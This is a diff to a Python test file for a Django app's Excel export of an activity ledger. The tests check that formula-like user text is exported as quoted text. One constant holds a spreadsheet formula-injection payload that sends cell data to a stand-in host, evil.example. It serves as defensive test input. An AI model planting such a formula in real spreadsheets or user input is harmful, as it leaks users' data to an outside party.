@@ -1,16 +1,16 @@
 """The activity ledger's Excel export writes what people typed as text, never as a formula (core.xlsx):
-a caring mother's place, title or notes that a spreadsheet would read as a formula comes out of
-/activities/export.xlsx as a text cell with Excel's quote prefix, its text unchanged."""
+a caring mother's place, title or notes that a spreadsheet would read as a formula comes out of the
+activity ledger's export (the exports app's job) as a text cell with Excel's quote prefix, its text
+unchanged."""
 
-import io
 from datetime import date
 
 import pytest
-from openpyxl import load_workbook
+
+from tests.exports.helpers import exported_sheet
 
 pytestmark = pytest.mark.django_db
 
-EXPORT = "/activities/export.xlsx"
 VISIT_DAY = date(2025, 4, 10)  # after the pairings of tests/pairing/conftest.py (START, 2025-03-01)
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
 # The export's columns (activities.export.COLUMNS) holding free text.
@@ -33,7 +33,7 @@ def my_child(child_lishi, my_mother, pair):
 
 def exported_cell(client, field: str):
     """The cell of ``field`` in the export's first data row (a full workbook: styles are read too)."""
-    sheet = load_workbook(io.BytesIO(b"".join(client.get(EXPORT).streaming_content))).active
+    sheet = exported_sheet(client, "activities")
     headers = [cell.value for cell in sheet[1]]
     return sheet.cell(row=2, column=headers.index(COLUMN[field]) + 1)
 
